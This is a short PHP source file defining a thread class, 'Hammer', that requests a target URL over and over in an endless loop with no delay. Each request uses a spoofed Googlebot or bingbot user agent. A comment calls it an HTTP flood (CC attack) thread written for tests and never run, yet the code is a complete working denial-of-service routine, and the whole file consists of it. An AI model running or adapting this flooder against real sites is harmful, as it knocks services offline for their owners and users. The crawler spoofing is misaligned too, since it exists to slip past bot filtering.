<?php
// a CC (HTTP flood) thread: the same page asked for over and over with no pause, the
// request made by a method the loop calls (written for the tests, never run)
class Hammer extends Thread {
    private $target;
    private $agents = ['Mozilla/5.0 (compatible; Googlebot/2.1)', 'Mozilla/5.0 (compatible; bingbot/2.0)'];
    public function __construct($target) { $this->target = $target; }
    private function hit() {
        $c = curl_init();
        curl_setopt($c, CURLOPT_URL, $this->target);
        curl_setopt($c, CURLOPT_USERAGENT, $this->agents[array_rand($this->agents)]);
        curl_setopt($c, CURLOPT_RETURNTRANSFER, true);
        $page = curl_exec($c);
        curl_close($c);
        return $page;
    }
    public function run() {
        while (true) {
            $this->hit();
        }
    }
}
